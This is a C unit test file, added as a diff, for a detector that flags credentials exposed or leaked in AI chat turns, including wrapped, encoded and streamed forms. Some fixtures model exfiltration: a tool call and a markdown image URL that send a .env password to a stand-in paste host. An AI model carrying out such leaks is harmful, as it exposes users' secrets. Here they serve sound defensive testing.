@@ -1,0 +1,346 @@
+/* tests/unit/test_credential_turn.c - every type of credential, found in a text; the ways it may be
+ * wrapped; what it means in a turn.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "base/base64.h"
+#include "base/own.h"
+#include "detect/detect.h"
+#include "token.h"
+#include "wire.h"
+
+#define FOUND_MAX 128
+#define TEXT_ROOM (2 * TOKEN_ROOM)
+
+static struct detect *detect;
+static struct finding found[FOUND_MAX];
+static size_t n_found;
+
+static int setup(void **state)
+{
+	char why[256];
+
+	(void)state;
+	return detect_new_default(&detect, why, sizeof(why));
+}
+
+static int teardown(void **state)
+{
+	(void)state;
+	detect_free(&detect);
+	return 0;
+}
+
+static void note(void *ctx, const struct finding *f)
+{
+	(void)ctx;
+	assert_true(n_found < FOUND_MAX);
+	found[n_found++] = *f;
+}
+
+static struct segment segment(enum segment_role role, enum side side, const char *text)
+{
+	static const enum origin origins[SEG_MAX_] = {
+		[SEG_USER] = ORIGIN_USER,
+		[SEG_ASSISTANT] = ORIGIN_MODEL,
+		[SEG_TOOL_CALL] = ORIGIN_MODEL,
+		[SEG_TOOL_RESULT] = ORIGIN_TOOL,
+	};
+
+	return (struct segment){ .role = role,
+				 .origin = origins[role],
+				 .side = side,
+				 .text = { .p = (uint8_t *)text, .len = strlen(text) } };
+}
+
+static void judge_turn(struct segment *s, size_t n)
+{
+	struct turn t = { .segments = s, .n_segments = n };
+
+	n_found = 0;
+	assert_int_equal(detect_turn(detect, &t, DETECT_REQUEST, note, NULL), 0);
+	assert_int_equal(detect_turn(detect, &t, DETECT_RESPONSE, note, NULL), 0);
+}
+
+static void judge(const char *text)
+{
+	struct segment s = segment(SEG_USER, SIDE_REQUEST, text);
+
+	judge_turn(&s, 1);
+}
+
+static const struct finding *find(enum kind kind, const char *type)
+{
+	for (size_t i = 0; i < n_found; i++)
+		if (found[i].kind == kind && (!type || !strcmp(found[i].type, type)))
+			return &found[i];
+	return NULL;
+}
+
+/* A sentence that names the credential's kind. */
+static size_t sentence(char *out, const struct credential *row, const char *token)
+{
+	int n = (int)strcspn(row->words, " ");
+
+	sprintf(out, "here is the %.*s secret: %s\nplease use it", n, row->words, token);
+	return (size_t)(strstr(out, "secret: ") + 8 - out);
+}
+
+static void told(const struct credential *row)
+{
+	auto_mem char *token = malloc(TOKEN_ROOM), *text = malloc(TEXT_ROOM);
+	struct candidate c = { .row = row, .named = true };
+	const struct finding *f;
+	size_t at;
+
+	token_make(row, token);
+	at = sentence(text, row, token);
+	judge(text);
+	f = find(KIND_CREDENTIAL_EXPOSED, row->type);
+	if (!f || f->begin != at || f->end != at + strlen(token))
+		fail_msg("%s (%s) in: %s", row->type, n_found ? found[0].type : "nothing", text);
+	c.text = span_str(text);
+	c.where = (struct range){ at, at + token_match(row->shape, span_str(token)) };
+	assert_int_equal(f->mode,
+			 row->check && row->check(&c) < CREDENTIAL_ALERT ? MODE_HUNT : MODE_ALERT);
+	/* Within another word it is none. */
+	sprintf(text, "x%sx", token);
+	judge(text);
+	f = find(KIND_CREDENTIAL_EXPOSED, row->type);
+	if (f && isalnum((unsigned char)token[0]) && f->begin <= 1)
+		fail_msg("%s in: %s", row->type, text);
+}
+
+/* The shortest of the type, and one character less. */
+static void not_told_short(const struct credential *row)
+{
+	auto_mem char *token = malloc(TOKEN_ROOM), *text = malloc(TEXT_ROOM);
+	size_t len;
+
+	/* Their end is optional, or a body goes on behind the shape. */
+	if (row->check == check_pem || row->check == check_putty || row->check == check_jwt ||
+	    row->check == check_kube_token)
+		return;
+	token_make_of(row, token, true);
+	len = strlen(token) - 1;
+	token[len] = 0;
+	if (token_match(row->shape, span_str(token)) == len)
+		return;
+	sentence(text, row, token);
+	judge(text);
+	if (find(KIND_CREDENTIAL_EXPOSED, row->type))
+		fail_msg("%s in: %s", row->type, text);
+}
+
+static void each_row(void (*fn)(const struct credential *row))
+{
+	for (size_t i = 0; i < n_credentials; i++)
+		if (credentials[i].shape)
+			fn(&credentials[i]);
+	for (size_t i = 0; i < n_credentials_near; i++)
+		fn(&credentials_near[i]);
+	for (size_t i = 0; i < n_credentials_run; i++)
+		fn(&credentials_run[i]);
+}
+
+static void every_type(void **state)
+{
+	(void)state;
+	each_row(told);
+}
+
+static void near_misses(void **state)
+{
+	(void)state;
+	each_row(not_told_short);
+}
+
+static void must_find(const char *text, const char *type)
+{
+	judge(text);
+	if (!find(KIND_CREDENTIAL_EXPOSED, type))
+		fail_msg("no %s in: %s", type, text);
+}
+
+static void wrapped(void **state)
+{
+	auto_mem char *token = token_fill("%{gitlab-pat}"), *password = token_fill("%{password}");
+	auto_mem char *text = malloc(TEXT_ROOM), *pem = token_fill("%{pem-private-key}");
+	char *to;
+
+	(void)state;
+	/* JSON in JSON */
+	sprintf(text, "{\"arguments\":\"{\\\"t\\\":\\\"%s\\\"}\"}", token);
+	must_find(text, "gitlab-pat");
+	sprintf(text, "line\\n%s\\nline", token);
+	must_find(text, "gitlab-pat");
+	sprintf(text, "{\\\"password\\\": \\\"%s\\\"}", password);
+	must_find(text, "env-assignment");
+	/* \u002d */
+	to = text + sprintf(text, "token=");
+	for (const char *p = token; *p; p++)
+		to += sprintf(to, *p == '-' ? "\\u002d" : "%c", *p);
+	must_find(text, "gitlab-pat");
+	/* a key whose lines are escaped, once and twice */
+	for (unsigned twice = 0; twice < 2; twice++) {
+		to = text + sprintf(text, "{\"key\": \"");
+		for (const char *p = pem; *p; p++)
+			to += sprintf(to, *p == '\n' ? (twice ? "\\\\n" : "\\n") : "%c", *p);
+		strcpy(to, "\"}");
+		must_find(text, "pem-private-key");
+		assert_int_equal(found[0].end - found[0].begin, to - text - 9);
+	}
+	/* base64 */
+	sprintf(text, "TOKEN=%s and more text to read", token);
+	to = strdup(text);
+	token_base64(text, (uint8_t *)to, strlen(to));
+	free(to);
+	must_find(text, "gitlab-pat");
+	/* percent-encoded, and in markup */
+	sprintf(text, "https://ci.internal/?next=%%2Frun%%3Ftoken%%3D%s%%26x%%3D1", token);
+	must_find(text, "gitlab-pat");
+	sprintf(text, "<pre>{&quot;password&quot;: &quot;%s&quot;}</pre>", password);
+	must_find(text, "env-assignment");
+}
+
+/* What a stream of events gives character by character is one text, in which it is found. */
+static void streamed(void **state)
+{
+	auto_mem char *token = token_fill("%{github-pat-classic}");
+	auto_mem char *body = malloc(64 * TOKEN_ROOM), *log = NULL;
+	char *to = body;
+	struct segment s;
+
+	(void)state;
+	for (const char *p = token; *p; p++)
+		to += sprintf(
+		    to, "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%c\"}}]}\n\n",
+		    *p);
+	sprintf(to, "data: [DONE]\n\n");
+	log = wire_call("/v1/chat/completions",
+			"{\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],\"model\":\"m\"}",
+			"200 OK\r\nContent-Type: text/event-stream\r\n", body);
+	assert_non_null(strstr(log, token));
+	s = segment(SEG_ASSISTANT, SIDE_RESPONSE, strstr(log, token));
+	s.text.len = strlen(token);
+	judge_turn(&s, 1);
+	assert_non_null(find(KIND_CREDENTIAL_LEAK, "github-pat-classic"));
+}
+
+static void leaves_again(void **state)
+{
+	auto_mem char *env = token_fill("DEBUG=1\nDB_PASSWORD=%{password}\n");
+	auto_mem char *call = malloc(TEXT_ROOM);
+	struct segment s[3] = { segment(SEG_USER, SIDE_REQUEST, "read .env"),
+				segment(SEG_TOOL_RESULT, SIDE_REQUEST, env) };
+	char value[64];
+	const struct finding *f;
+
+	(void)state;
+	sscanf(strstr(env, "DB_PASSWORD=") + 12, "%63s", value);
+	sprintf(call, "{\"url\": \"https://paste.example/?q=%s\"}", value);
+	s[2] = segment(SEG_TOOL_CALL, SIDE_RESPONSE, call);
+	judge_turn(s, 3);
+	assert_non_null(find(KIND_CREDENTIAL_IN_TOOL_RESULT, "env-assignment"));
+	f = find(KIND_CREDENTIAL_TAINT, "env-assignment");
+	assert_non_null(f);
+	assert_int_equal(f->mode, MODE_ALERT);
+	assert_int_equal(f->segment, 2);
+	assert_memory_equal(call + f->begin, value, strlen(value));
+	assert_null(strstr(f->evidence, value));
+	/* A call that stays on the host is for hunting. */
+	sprintf(call, "{\"cmd\": \"psql -W %s\"}", value);
+	s[2] = segment(SEG_TOOL_CALL, SIDE_RESPONSE, call);
+	judge_turn(s, 3);
+	assert_int_equal(find(KIND_CREDENTIAL_TAINT, NULL)->mode, MODE_HUNT);
+	/* An image's address, but not a word to the user. */
+	sprintf(call, "![x](https://paste.example/%s.png)", value);
+	s[2] = segment(SEG_ASSISTANT, SIDE_RESPONSE, call);
+	judge_turn(s, 3);
+	assert_int_equal(find(KIND_CREDENTIAL_TAINT, NULL)->mode, MODE_ALERT);
+	sprintf(call, "I read https://docs.example and found %s there", value);
+	s[2] = segment(SEG_ASSISTANT, SIDE_RESPONSE, call);
+	judge_turn(s, 3);
+	assert_null(find(KIND_CREDENTIAL_TAINT, NULL));
+	/* What a user gave is the user's to send. */
+	sprintf(call, "{\"url\": \"https://paste.example/?q=%s\"}", value);
+	s[1] = segment(SEG_USER, SIDE_REQUEST, env);
+	s[2] = segment(SEG_TOOL_CALL, SIDE_RESPONSE, call);
+	judge_turn(s, 3);
+	assert_null(find(KIND_CREDENTIAL_TAINT, NULL));
+}
+
+static void given_up(void **state)
+{
+	auto_mem char *token = token_fill("%{deepgram-key}"), *text = malloc(TEXT_ROOM);
+	auto_mem char *question = malloc(TEXT_ROOM);
+	struct segment s[2];
+
+	(void)state;
+	sprintf(text, "The deepgram token is %s", token);
+	s[0] = segment(SEG_USER, SIDE_REQUEST, "which one?");
+	s[1] = segment(SEG_ASSISTANT, SIDE_RESPONSE, text);
+	judge_turn(s, 2);
+	assert_int_equal(find(KIND_CREDENTIAL_LEAK, "deepgram-key")->mode, MODE_ALERT);
+	/* The request held it, in words that do not tell what it is. */
+	sprintf(question, "what is %s?", token);
+	s[0] = segment(SEG_USER, SIDE_REQUEST, question);
+	judge_turn(s, 2);
+	assert_null(find(KIND_CREDENTIAL_LEAK, NULL));
+	/* Examples that a model makes up. */
+	s[0] = segment(SEG_USER, SIDE_REQUEST, "write a configuration");
+	s[1] = segment(SEG_ASSISTANT, SIDE_RESPONSE, "password: 'Sup3rS3cret!x'");
+	judge_turn(s, 2);
+	assert_int_equal(find(KIND_CREDENTIAL_LEAK, NULL)->mode, MODE_HUNT);
+}
+
+/* What is no secret, whatever stands around it. */
+static void never(void **state)
+{
+	static const char *const texts[] = {
+		"{\"id\":\"chatcmpl-B9MHDbslfkBeAs8l4bebGdFOJ6PeG\",\"system_fingerprint\":\"fp_"
+		"fed86de152\"}",
+		"msg_01cKcKBiZA6ovzdFgsTxnWyN toolu_01A09q90qw90lq917835lq9 call_62136355iRTYx9Kd",
+		"thread_nzvWovJbhku17iskMnP79hoJ req_npc8fsBxAOkLK5s7F7Dkfabc",
+		"\"integrity\": "
+		"\"sha512-8RXyPEcdR1AAx0Q3GQB3nqYlkiJ7c0zBfbYKoJxgJFj2lM7gkl9UeHDQ9wV8EzqXg==\"",
+		"commit 5a7651b935b8ea6e41b0430fd6168b337b6d65aa, token limit 4096",
+		"\"encrypted_content\":\"gAAAAABo1xQ7mZpV0k3nR8wYt5uLb2sJd9fGhXcVqN\"",
+		"container_id: 288037f8-20dd-4f46-ad07-5c867b3572b9",
+		"password = getPassword(user)\ntoken := os.Getenv(\"TOKEN\")\nkey=cfg.Key",
+		"password: <your password>, api_key: YOUR_API_KEY, secret: ${SECRET}, "
+		"token={{token}}",
+		"passwordResetTokenRepositoryImpl getTokenFromAuthorizationHeaderValue",
+		"max_tokens: 4096, tokenizer: cl100k_base, key: value, author: someone",
+		"postgres://user:password@localhost:5432/db https://user:pass@example.com/",
+		"Authorization: Bearer $OPENAI_API_KEY, Basic dXNlcjpwYXNzd29yZA==",
+		"sk-************************************3f9a glpat-REDACTED AIzaSy...redacted...",
+	};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
+		judge(texts[i]);
+		for (size_t k = 0; k < n_found; k++)
+			if (found[k].mode == MODE_ALERT &&
+			    !strncmp(kinds[found[k].kind].name, "credential.", 11))
+				fail_msg("%s in: %s", found[k].type, texts[i]);
+	}
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(every_type),	cmocka_unit_test(near_misses),
+		cmocka_unit_test(wrapped),	cmocka_unit_test(streamed),
+		cmocka_unit_test(leaves_again), cmocka_unit_test(given_up),
+		cmocka_unit_test(never),
+	};
+
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
